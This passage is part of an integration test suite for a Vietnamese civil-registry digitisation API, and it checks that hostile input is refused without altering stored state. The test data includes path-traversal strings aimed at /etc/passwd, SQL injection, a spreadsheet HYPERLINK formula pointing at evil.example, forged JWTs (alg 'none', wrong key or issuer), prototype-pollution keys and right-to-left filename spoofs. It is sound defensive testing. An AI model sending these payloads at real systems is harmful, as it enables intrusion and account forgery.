    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: '../../a.xlsx', contentType: XLSX, size: 10 })),
    expect: invalid('body.fileName'),
  },
  {
    category: 'json',
    name: 'file name with a NUL byte',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a\u0000.xlsx', contentType: XLSX, size: 10 })),
    expect: invalid('body.fileName'),
  },
  {
    category: 'json',
    name: 'file name with a right-to-left override (xlsx.exe spoof)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'so\u202Eexe.xlsx', contentType: XLSX, size: 10 })),
    expect: invalid('body.fileName'),
  },
  {
    category: 'json',
    name: 'declared size over the limit (1 TB)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/uploads`, JSON.stringify({ kind: 'entry', fileName: 'a.xlsx', contentType: XLSX, size: 1e12 })),
    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' },
  },
  {
    category: 'json',
    name: 'scan delivery declared over 5 GB (multipart)',
    book: 'scan',
    request: async (w) =>
      raw(w, 'POST', `${S(w)}/uploads`, {
        token: await tokenOf('scan.binhan'),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 6 * 1024 ** 3, multipart: true }),
      }),
    expect: { status: 400, error: 'InvalidInput', message: 'Yêu cầu tải lên không hợp lệ', issue: 'size' },
  },
  {
    category: 'json',
    name: 'wrong type: multipart as a string',
    book: 'scan',
    request: async (w) =>
      raw(w, 'POST', `${S(w)}/uploads`, {
        token: await tokenOf('scan.binhan'),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ kind: 'scans', fileName: 'so.zip', contentType: 'application/zip', size: 100, multipart: 'yes' }),
      }),
    expect: invalid('body.multipart'),
  },
  {
    category: 'json',
    name: 'record review with version as a string',
    book: 'scan',
    request: (w) => raw(w, 'PATCH', `${S(w)}/records/1-2018`, { headers: { 'content-type': 'application/json' }, body: '{"version":"1","status":"ok"}' }),
    expect: invalid('body'),
  },

  {
    category: 'json',
    name: 'correction of the field "constructor" (inherited, not a column)',
    book: 'review',
    request: (w) => correct(w, { corrections: [{ field: 'constructor', value: 'x', reason: 'TYPO' }] }),
    expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.constructor' },
  },
  {
    category: 'json',
    name: 'correction of the field "__proto__"',
    book: 'review',
    request: (w) => correct(w, { corrections: [{ field: '__proto__', value: 'x', reason: 'TYPO' }] }),
    expect: { status: 400, error: 'InvalidInput', message: 'Trường không có trong mẫu của sổ', issue: 'corrections.__proto__' },
  },
  {
    category: 'json',
    name: 'correction value with formula injection =HYPERLINK(…)',
    book: 'review',
    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: '=HYPERLINK("http://evil.example","x")', reason: 'TYPO' }] }),
    expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' },
  },
  {
    category: 'json',
    name: 'correction value with a right-to-left override',
    book: 'review',
    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn \u202Ena Vnăv', reason: 'TYPO' }] }),
    expect: { status: 400, error: 'InvalidInput', message: 'Giá trị sửa không hợp lệ', issue: 'corrections.nksHoTen' },
  },
  {
    category: 'json',
    name: 'correction with an unknown reason',
    book: 'review',
    request: (w) => correct(w, { corrections: [{ field: 'nksHoTen', value: 'Nguyễn Văn An', reason: '__proto__' }] }),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'too many corrections (81)',
    book: 'review',
    request: (w) => correct(w, { corrections: Array.from({ length: 81 }, () => ({ field: 'nksHoTen', value: 'A', reason: 'TYPO' })) }),
    expect: invalid('body'),
  },
  {
    category: 'json',
    name: 'review policy with a huge sample percent',
    book: 'entry',
    request: (w) =>
      raw(w, 'PUT', '/units/90101/review-policy', { headers: { 'content-type': 'application/json' }, body: '{"mode":"adaptive","samplePercent":1e308}' }),
    expect: invalid('body.samplePercent'),
  },
  {
    category: 'json',
    name: 'weekly run for a unit with injection characters',
    book: 'entry',
    request: async (w) =>
      raw(w, 'POST', '/reports/weekly/run', {
        token: await tokenOf('vanhanh'),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ unit: "9'<x>" }),
      }),
    expect: invalid('body.unit'),
  },
  {
    category: 'json',
    name: 'weekly run for a unit that does not exist',
    book: 'entry',
    request: async (w) =>
      raw(w, 'POST', '/reports/weekly/run', {
        token: await tokenOf('vanhanh'),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ unit: '99999' }),
      }),
    expect: { status: 400, error: 'InvalidInput', message: 'Không có đơn vị lập báo cáo tuần với mã này', issue: 'body.unit' },
  },
  {
    category: 'json',
    name: 'weekly run for week 53 of a 52-week year',
    book: 'entry',
    request: async (w) =>
      raw(w, 'POST', '/reports/weekly/run', {
        token: await tokenOf('vanhanh'),
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ week: '2025-W53' }),
      }),
    expect: invalid('body.week'),
  },

  // ---------------- headers
  { category: 'headers', name: 'no Authorization header', book: 'entry', request: (w) => raw(w, 'GET', B(w), { token: null }), expect: GATEWAY_401 },
  {
    category: 'headers',
    name: 'Authorization with the Basic scheme',
    book: 'entry',
    request: (w) => raw(w, 'GET', B(w), { token: null, headers: { authorization: 'Basic aG90aWNoOmFkbWlu' } }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'Bearer with a malformed token',
    book: 'entry',
    request: (w) => raw(w, 'GET', B(w), { token: 'not.a.jwt' }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'forged JWT with alg "none"',
    book: 'entry',
    request: (w) =>
      raw(w, 'GET', B(w), {
        token: `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url({ sub: 'x', 'cognito:groups': ['admin'], 'custom:unit': 'VN', iss: 'urn:hotich:local', aud: 'hotich-local-web', exp: 9_999_999_999 })}.`,
      }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'JWT signed with another key',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(randomBytes(32)) }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'expired JWT (right key)',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { expired: true }) }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'JWT for another audience (right key)',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { audience: 'other-app' }) }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'JWT from another issuer (right key)',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { issuer: 'https://evil.example' }) }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'JWT with another algorithm (HS512, right key)',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { alg: 'HS512' }) }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'valid signature, group claim "__proto__" (no known role)',
    book: 'entry',
    request: async (w) => raw(w, 'GET', B(w), { token: await forged(w.jwtKey, { claims: { 'cognito:groups': ['__proto__', 'superadmin'] } }) }),
    expect: { status: 401, error: 'Unauthenticated', message: 'Thông tin đăng nhập không đầy đủ' },
  },
  {
    category: 'headers',
    name: 'Content-Type text/plain with a JSON body',
    book: 'entry',
    request: (w) => raw(w, 'POST', `${B(w)}/actions`, { headers: { 'content-type': 'text/plain' }, body: '{"action":"returnToEntry"}' }),
    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
  },
  {
    category: 'headers',
    name: 'no Content-Type on a JSON body',
    book: 'entry',
    request: (w) => raw(w, 'POST', `${B(w)}/actions`, { body: '{"action":"returnToEntry"}' }),
    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
  },
  {
    category: 'headers',
    name: 'multipart/form-data instead of JSON',
    book: 'entry',
    request: (w) =>
      raw(w, 'POST', `${B(w)}/actions`, {
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
        body: '--x\r\nContent-Disposition: form-data; name="action"\r\n\r\nreturnToEntry\r\n--x--',
      }),
    expect: invalid('headers.content-type', 'Nội dung phải là JSON (Content-Type: application/json)'),
  },
  {
    category: 'headers',
    name: 'JSON sent as UTF-16 (charset=utf-16)',
    book: 'entry',
    request: (w) =>
      raw(w, 'POST', `${B(w)}/actions`, {
        headers: { 'content-type': 'application/json; charset=utf-16' },
        body: Buffer.from('{"action":"returnToEntry"}', 'utf16le'),
      }),
    expect: invalid('body', 'Nội dung JSON không đọc được'),
  },
  {
    category: 'headers',
    name: 'Authorization with two tokens',
    book: 'entry',
    request: async (w) =>
      raw(w, 'GET', B(w), { token: null, headers: { authorization: `Bearer ${await tokenOf('hotich.binhan')} ${await tokenOf('vanhanh')}` } }),
    expect: GATEWAY_401,
  },
  {
    category: 'headers',
    name: 'body over the API Gateway limit (11 MB)',
    book: 'entry',
    request: (w) => jsonBody(w, 'POST', `${B(w)}/actions`, JSON.stringify({ action: 'returnToEntry', reason: 'x'.repeat(11 * 1024 * 1024) })),
    expect: { status: 413, message: 'Request Entity Too Large' },
  },

  // ---------------- path parameters
  {
    category: 'path',
    name: 'book id with encoded path traversal ..%2F..%2Fetc%2Fpasswd',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/books/..%2F..%2Fetc%2Fpasswd'),
    expect: invalid('path.bookId'),
  },
  {
    category: 'path',
    name: 'oversized book id (65 characters)',
    book: 'entry',
    request: (w) => raw(w, 'GET', `/books/${'9'.repeat(65)}`),
    expect: invalid('path.bookId'),
  },
  { category: 'path', name: 'book id with a NUL byte (%00)', book: 'entry', request: (w) => raw(w, 'GET', `${B(w)}%00`), expect: invalid('path.bookId') },
  { category: 'path', name: 'book id "__proto__"', book: 'entry', request: (w) => raw(w, 'GET', '/books/__proto__'), expect: invalid('path.bookId') },
  {
    category: 'path',
    name: 'book id with broken percent-encoding (%E0%A4%A)',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/books/90101-KS-1.2018-2018%E0%A4%A'),
    expect: invalid('path.bookId', 'Tham số đường dẫn không hợp lệ'),
  },
  {
    category: 'path',
    name: 'book id with fullwidth digits (unicode look-alike)',
    book: 'entry',
    request: (w) => raw(w, 'GET', `/books/${encodeURIComponent(w.entryBook.bookId.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d))))}`),
    expect: invalid('path.bookId'),
  },
  {
    category: 'path',
    name: 'upload id that is not a UUID',
    book: 'entry',
    request: (w) => raw(w, 'GET', `${B(w)}/uploads/..%2F..%2Fx/parts`),
    expect: invalid('path.uploadId'),
  },
  {
    category: 'path',
    name: 'registration number "__proto__"',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records/__proto__`),
    expect: invalid('path.so'),
  },
  {
    category: 'path',
    name: 'registration number too large (9999999-2018)',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records/9999999-2018`),
    expect: invalid('path.so'),
  },
  {
    category: 'path',
    name: 'execution ARN that is not an ARN',
    book: 'entry',
    request: async (w) => raw(w, 'GET', '/ops/executions/%3Cscript%3E/history', { token: await tokenOf('vanhanh') }),
    expect: invalid('path.executionArn'),
  },
  {
    category: 'path',
    name: 'well-formed execution ARN that does not exist',
    book: 'entry',
    request: async (w) =>
      raw(w, 'GET', '/ops/executions/arn:aws:states:ap-southeast-1:000000000000:execution:khong-co:khong-co/history', { token: await tokenOf('vanhanh') }),
    expect: { status: 404, error: 'NotFound', message: 'Không tìm thấy lượt xử lý' },
  },
  {
    category: 'path',
    name: 'completing an upload id that was never issued',
    book: 'entry',
    request: (w) => raw(w, 'POST', `${B(w)}/uploads/0f8fad5b-d9cb-469f-a165-70867728950e/complete`),
    expect: { status: 404, error: 'NotFound', message: 'Không có lượt tải lên nhiều phần này' },
  },
  {
    category: 'path',
    name: 'a method the route table does not have (DELETE /books/{id})',
    book: 'entry',
    request: (w) => raw(w, 'DELETE', B(w)),
    expect: { status: 404, message: 'Not Found' },
  },
  {
    category: 'path',
    name: 'empty path segment (/books//actions)',
    book: 'entry',
    request: (w) => raw(w, 'POST', '/books//actions', { headers: { 'content-type': 'application/json' }, body: '{"action":"startDigitisation"}' }),
    expect: { status: 404, message: 'Not Found' },
  },
  {
    category: 'path',
    name: 'unit code with SQL injection',
    book: 'entry',
    request: (w) => raw(w, 'GET', `/units/${encodeURIComponent("90101' OR 1=1--")}/review-policy`),
    expect: invalid('path.unitCode'),
  },
  {
    category: 'path',
    name: 'template file with path traversal',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/templates/..%2F..%2Fpackage.json'),
    expect: invalid('path.file', 'Dữ liệu gửi lên không hợp lệ'),
  },

  // ---------------- query parameters
  { category: 'query', name: 'negative limit', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=-1`), expect: invalid('query.limit') },
  {
    category: 'query',
    name: 'huge limit (1e9)',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1000000000`),
    expect: invalid('query.limit'),
  },
  { category: 'query', name: 'non-numeric limit', book: 'scan', request: (w) => raw(w, 'GET', `${S(w)}/records?limit=abc`), expect: invalid('query.limit') },
  {
    category: 'query',
    name: 'repeated limit (limit=1&limit=2)',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records?limit=1&limit=2`),
    expect: invalid('query.limit'),
  },
  {
    category: 'query',
    name: "tampered cursor pointing into another book's records",
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=${b64url({ PK: `BOOK#${w.entryBook.bookId}`, SK: 'REC#2018#000001' })}`),
    expect: { status: 400, error: 'InvalidInput', message: 'Con trỏ phân trang không hợp lệ', issue: 'query.cursor' },
  },
  {
    category: 'query',
    name: 'cursor that is not base64 JSON',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=%7B%22%24ne%22%3Anull%7D`),
    expect: { status: 400, error: 'InvalidInput', message: 'Con trỏ phân trang không hợp lệ', issue: 'query.cursor' },
  },
  {
    category: 'query',
    name: 'oversized cursor (2 kB)',
    book: 'scan',
    request: (w) => raw(w, 'GET', `${S(w)}/records?cursor=${'A'.repeat(2048)}`),
    expect: invalid('query.cursor'),
  },
  {
    category: 'query',
    name: 'tampered execution-list nextToken',
    book: 'entry',
    request: async (w) => raw(w, 'GET', `/ops/executions?nextToken=${b64url({ scope: 'other', position: -5 })}`, { token: await tokenOf('vanhanh') }),
    expect: { status: 400, error: 'InvalidInput', message: 'Mã trang tiếp theo (nextToken) không hợp lệ', issue: 'query.nextToken' },
  },
  { category: 'query', name: 'unknown parameter __proto__', book: 'entry', request: (w) => raw(w, 'GET', '/books?__proto__=x'), expect: invalid('query') },
  {
    category: 'query',
    name: 'stage that does not exist',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/books?stage=%3Cscript%3E'),
    expect: invalid('query.stage'),
  },
  {
    category: 'query',
    name: 'week 99 of a year',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/reports/weekly?week=2026-W99'),
    expect: invalid('query.week'),
  },
  {
    category: 'query',
    name: 'unit "__proto__" in the book list',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/books?unit=__proto__'),
    expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' },
  },
  {
    category: 'query',
    name: 'unit with a NUL byte in the review queue',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/review/queue?unit=90101%00'),
    expect: { status: 403, error: 'Forbidden', message: 'Bạn không có quyền với đơn vị này' },
  },
  {
    category: 'query',
    name: 'oversized unit value (10,000 characters)',
    book: 'entry',
    request: (w) => raw(w, 'GET', `/books?unit=${'9'.repeat(10_000)}`),
    expect: invalid('query.unit'),
  },
  {
    category: 'query',
    name: 'month 13',
    book: 'entry',
    request: (w) => raw(w, 'GET', '/reconciliation/monthly?month=2026-13'),
    expect: invalid('query.month'),
  },
];

// ---------------------------------------------------------------- stored state around each case

interface Snapshot {
  /** State-table items by "PK SK". */
  state: Map<string, string>;
  /** Audit entries by "PK SK". */
  audit: Map<string, any>;
  /** Archive objects by key: ETag and size. */
  objects: Map<string, string>;
}

/** Where a book's (or the unit's extract's) stored state lives. */
interface Scope {
  statePks: string[];
  auditPks: string[];
  prefixes: string[];
}

const bookScope = (bookId: string): Scope => ({
  statePks: [`BOOK#${bookId}`],
  auditPks: [`book#${bookId}`],
  prefixes: ['scans', 'reports', 'exports'].map((p) => `${p}/90101/${bookId}/`),
});
/** The commune's register extracts: their upload container, the unit's extract versions, the audit of both. */
const extractScope: Scope = { statePks: ['BOOK#EXTRACT-90101', 'UNIT#90101'], auditPks: ['book#EXTRACT-90101', 'unit#90101'], prefixes: ['extracts/90101/'] };

async function snapshot(scope: Scope): Promise<Snapshot> {
  const { ddb, s3 } = await import('../../shared/aws/clients.js');
  const { QueryCommand } = await import('@aws-sdk/lib-dynamodb');
  const { ListObjectsV2Command } = await import('@aws-sdk/client-s3');
  const { getConfig } = await import('../../shared/config.js');
  const config = getConfig();
  const query = async (table: string, pk: string) => {
    const out: Record<string, any>[] = [];
    let start: Record<string, unknown> | undefined;
    do {
      const r = await ddb.send(
        new QueryCommand({
          TableName: table,
          KeyConditionExpression: 'PK = :pk',
          ExpressionAttributeValues: { ':pk': pk },
          ExclusiveStartKey: start,
          ConsistentRead: true,
        }),
      );
      out.push(...(r.Items ?? []));
      start = r.LastEvaluatedKey;
    } while (start);
    return out;
  };
  const state = new Map<string, string>();
  for (const pk of scope.statePks) for (const i of await query(config.TABLE_NAME, pk)) state.set(`${pk} ${i.SK}`, JSON.stringify(i));
  const audit = new Map<string, any>();
  for (const pk of scope.auditPks) for (const i of await query(config.AUDIT_TABLE_NAME, pk)) audit.set(`${pk} ${i.SK}`, i);
  const objects = new Map<string, string>();
  for (const prefix of scope.prefixes) {
    let token: string | undefined;
    do {
      const r = await s3.send(new ListObjectsV2Command({ Bucket: config.ARCHIVE_BUCKET, Prefix: prefix, ContinuationToken: token }));
      for (const o of r.Contents ?? []) objects.set(o.Key!, `${o.ETag}:${o.Size}`);
      token = r.NextContinuationToken;
    } while (token);
  }
  return { state, audit, objects };
}

const ALLOWED_AUDIT = new Set(['upload.requested', 'upload.received', 'entry.rejected', 'scan.rejected', 'scan.incomplete']);

/** Every change between two snapshots that is not the recorded rejection of `uploadId` (none allowed without one). */
function unexpectedChanges(before: Snapshot, after: Snapshot, uploadId?: string): string[] {
  const own = (key: string) =>
    uploadId !== undefined && [`UPLOAD#${uploadId}`, `ENTRYREPORT#${uploadId}`, `SCANREPORT#${uploadId}`].includes(key.split(' ')[1]!);
  const out: string[] = [];
  for (const [k, v] of after.state) if (before.state.get(k) !== v && !own(k)) out.push(`state ${before.state.has(k) ? 'changed' : 'added'}: ${k}`);
  for (const k of before.state.keys()) if (!after.state.has(k)) out.push(`state deleted: ${k}`);
  for (const [k, e] of after.audit) {
    if (before.audit.has(k)) continue;
    if (uploadId !== undefined && e.after?.uploadId === uploadId && ALLOWED_AUDIT.has(e.action)) continue;
    out.push(`audit added: ${e.action} (${k})`);
  }
  for (const k of before.audit.keys()) if (!after.audit.has(k)) out.push(`audit deleted: ${k}`);
  for (const [k, v] of after.objects) {
    if (before.objects.get(k) === v) continue;
    if (uploadId !== undefined && k.startsWith('reports/') && k.includes(`/${uploadId}/`) && !before.objects.has(k)) continue;
    out.push(`object ${before.objects.has(k) ? 'changed' : 'added'}: ${k}`);
  }
  for (const k of before.objects.keys()) if (!after.objects.has(k)) out.push(`object deleted: ${k}`);
  return out;
}

// ---------------------------------------------------------------- running the table

/** Who uploads each kind, where, and where the upload's item lives. */
function target(w: World, c: FileCase) {
  if (c.kind === 'extract') return { uploader: w.police, requestPath: '/units/90101/extracts', container: 'EXTRACT-90101', scope: extractScope };
  const bookId = c.kind === 'entry' ? w.entryBook.bookId : w.scanBook.bookId;
  return { uploader: c.kind === 'entry' ? w.clerk : w.contractor, requestPath: `/books/${bookId}/uploads`, container: bookId, scope: bookScope(bookId) };
}

async function deliver(w: World, c: FileCase): Promise<string> {
  const bytes = await c.file(w);
  const t = target(w, c);
  const req = await t.uploader.post(t.requestPath, {
    ...(c.kind === 'extract' ? {} : { kind: c.kind }),
    fileName: c.fileName,
    contentType: c.contentType,
    size: bytes.length,
  });
  expect(req.status, JSON.stringify(req.body)).toBe(201);
  expect((await postForm(req.body, bytes, c.fileName, c.contentType)).status).toBe(204);
  return req.body.uploadId as string;
}

/** The upload's item once processing is over (final status), with the whole snapshot of that moment. */
async function settled(scope: Scope, container: string, uploadId: string) {
  return waitFor(
    async () => {
      const snap = await snapshot(scope);
      const upload = JSON.parse(snap.state.get(`BOOK#${container} UPLOAD#${uploadId}`) ?? '{}');
      return upload.status === 'rejected' || upload.status === 'accepted' ? { snap, upload } : undefined;
    },
    `upload ${uploadId} final`,
    60_000,
  );
}

async function runFileCase(w: World, c: FileCase) {
  const t = target(w, c);
  const before = await snapshot(t.scope);
  const uploadId = await deliver(w, c);
  const e = c.expect;
  if ('extractIssue' in e) {
    const { snap, upload } = await settled(t.scope, t.container, uploadId);
    expect(upload.status).toBe('rejected');
    const issues = upload.outcome.issues as { row: number; column?: string; message: string }[];
    expect(issues.map((i) => `${i.row}:${i.column ?? ''}`)).toContain(e.extractIssue);
    for (const i of issues) expect(i.message).toMatch(VIETNAMESE);
    expect(unexpectedChanges(before, snap, uploadId)).toEqual([]);
    return;
  }
  const reader = c.kind === 'entry' ? w.clerk : w.contractor;
  const reportPath = `/books/${t.container}/${c.kind === 'entry' ? 'entry-report' : 'scan-report'}`;
  const report = await waitFor(
    async () => {
      const r = await reader.get(reportPath);
      return r.status === 200 && r.body.uploadId === uploadId ? r.body : undefined;
    },
    `${c.kind} report of ${c.name}`,
    60_000,
  );
  if ('fileError' in e) {
    expect(report.status).toBe('rejected');
    expect(report.fileError?.code).toBe(e.fileError);
    expect(report.fileError.message).toMatch(VIETNAMESE);
  } else if ('ruleId' in e) {
    expect(report.status).toBe('rejected');
    const hit = (report.issues as { ruleId: string; severity: string; column?: string; message: string }[]).find(
      (i) => i.ruleId === e.ruleId && (e.column === undefined || i.column === e.column),
    );
    expect(hit, JSON.stringify(report.issues).slice(0, 600)).toBeDefined();
    expect(hit!.severity).toBe('error');
    expect(hit!.message).toMatch(VIETNAMESE);
  } else if ('archiveError' in e) {
    expect(report.archiveError?.code, JSON.stringify(report).slice(0, 600)).toBe(e.archiveError);
    expect(report.archiveError.message).toMatch(VIETNAMESE);
  } else {
    const f = (report.files as { entryName: string; status: string; reason?: string }[]).find((x) => x.entryName === e.entry);
    expect(f, JSON.stringify(report.files).slice(0, 600)).toBeDefined();
    expect(f!.status).not.toBe('accepted');
    expect(f!.reason).toBe(e.reason);
    expect(report.counts.accepted ?? 0).toBe(0);
  }
  const book = (await reader.get(`/books/${t.container}`)).body;
  expect(book.stage).toBe(c.kind === 'entry' ? 'entry' : 'scan');
  // The upload's own item is final once processing is over: only then is the stored state complete.
  const { snap } = await settled(t.scope, t.container, uploadId);
  expect(unexpectedChanges(before, snap, uploadId)).toEqual([]);
}

async function runHttpCase(w: World, c: HttpCase) {
  const scope = bookScope({ entry: w.entryBook, scan: w.scanBook, review: w.reviewBook }[c.book].bookId);
  const before = await snapshot(scope);
  const r = await c.request(w);
  expect(r.status, JSON.stringify(r.body).slice(0, 600)).toBe(c.expect.status);
  expect(r.status).toBeLessThan(500);
  if (c.expect.error === undefined) {
    // Answered by API Gateway itself: its fixed body, no function ran.
    expect(r.body).toEqual({ message: c.expect.message });
  } else {
    expect(r.body.error).toBe(c.expect.error);
    if (typeof c.expect.message === 'string') expect(r.body.message).toBe(c.expect.message);
    else expect(r.body.message).toMatch(c.expect.message);
    expect(r.body.message).toMatch(VIETNAMESE);
    if (c.expect.issue) {
      const paths = ((r.body.details?.issues ?? []) as { path: string }[]).map((i) => i.path);
      expect(paths, JSON.stringify(r.body.details)).toContain(c.expect.issue);
    }
  }
  const after = await snapshot(scope);
  expect(unexpectedChanges(before, after)).toEqual([]);
}

/** The expected answer of a case, as the docs table shows it. */
function describeExpected(c: Case): string {
  if (isFile(c)) {
    const e = c.expect;
    if ('fileError' in e) return `entry report rejected, file error \`${e.fileError}\``;
    if ('ruleId' in e) return `entry report rejected, \`${e.ruleId}\`${e.column ? ` at \`${e.column}\`` : ''}`;
    if ('archiveError' in e) return `scan report: archive refused \`${e.archiveError}\``;
    if ('extractIssue' in e) return `extract upload rejected, issue at row:column \`${e.extractIssue}\``;
    return `scan report: entry refused \`${e.reason}\``;
  }
  const e = c.expect;
  if (!e.error) return `${e.status} (API Gateway: \`${e.message}\`)`;
  return `${e.status} \`${e.error}\` "${e.message}"${e.issue ? ` (\`${e.issue}\`)` : ''}`;
}

const results = new Map<string, boolean>();
let world: World;

describe('hostile-input corpus', () => {
  beforeAll(async () => {
    const [officer, clerk, contractor, police, ops] = await Promise.all(
      ['hotich.binhan', 'nhaplieu.binhan', 'scan.binhan', 'congan.binhan', 'vanhanh'].map((u) => asUser(u)),
    );
    const quyenSo = `${Math.floor(Math.random() * 9000) + 1}/2016`;
    const entryBookId = await createBook(officer!, { quyenSo, yearOpened: 2016, closingTotal: 3 });
    await act(officer!, entryBookId, 'startDigitisation');
    await waitForStage(clerk!, entryBookId, 'entry');
    const { bookId: scanBookId } = await bookWithRecords(3);
    const { a, bookId: reviewBookId } = await bookWithRecords(1);
    await deliverScans(a.contractor, reviewBookId, ['1/2018']);
    await waitForStage(officer!, reviewBookId, 'review');
    expect((await officer!.post(`/books/${reviewBookId}/review/claim`)).status).toBe(200);
    world = {
      entryBook: { bookId: entryBookId, quyenSo, yearOpened: 2016 },
      scanBook: { bookId: scanBookId },
      reviewBook: { bookId: reviewBookId },
      officer: officer!,
      clerk: clerk!,
      contractor: contractor!,
      police: police!,
      ops: ops!,
      pdf: await makePdf({ label: 'hostile corpus' }),
      jwtKey: Buffer.from(readFileSync(path.join(inject('stack').dataDir, 'jwt-secret'), 'utf8').trim(), 'hex'),
    };
  }, 180_000);

  afterAll(() => {
    const passed = [...results.values()].filter(Boolean).length;
    const counts = new Map<string, number>();
    for (const c of cases) counts.set(c.category, (counts.get(c.category) ?? 0) + 1);
    const perCategory = [...counts].map(([k, n]) => `${k} ${n}`);
    console.log(`hostile-input corpus: ${results.size} cases tried, ${passed} passed (${perCategory.join(', ')})`);
    // HOSTILE_CORPUS_TABLE=1 also prints the rows of the table in docs/reliability.md.
    const md = (t: string) => t.replace(/[\\|*_<>`[\]]/g, '\\$&');
    if (process.env.HOSTILE_CORPUS_TABLE)
      for (const c of cases) console.log(`| ${c.category} | ${md(c.name)} | ${describeExpected(c).replace(/\|/g, '\\|')} |`);
  });

  it('the stored-state comparison notices a write (guards every case below)', async () => {
    const before = await snapshot(bookScope(world.entryBook.bookId));
    const r = await world.clerk.post(`/books/${world.entryBook.bookId}/uploads`, { kind: 'entry', fileName: 'kiem-tra.xlsx', contentType: XLSX, size: 10 });
    expect(r.status).toBe(201);
    const after = await snapshot(bookScope(world.entryBook.bookId));
    expect(unexpectedChanges(before, after)).toEqual([
      `state added: BOOK#${world.entryBook.bookId} UPLOAD#${r.body.uploadId}`,
      expect.stringMatching(/^audit added: upload\.requested /),
    ]);
    expect(unexpectedChanges(before, after, r.body.uploadId)).toEqual([]);
  });

  it('has at least 40 cases, names unique', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map((c) => `${c.category}: ${c.name}`)).size).toBe(cases.length);
  });

  for (const c of cases) {
    it(`${c.category}: ${c.name}`, async () => {
      const key = `${c.category}: ${c.name}`;
      results.set(key, false);
      if (isFile(c)) await runFileCase(world, c);
      else await runHttpCase(world, c);
      results.set(key, true);
    });
  }
});
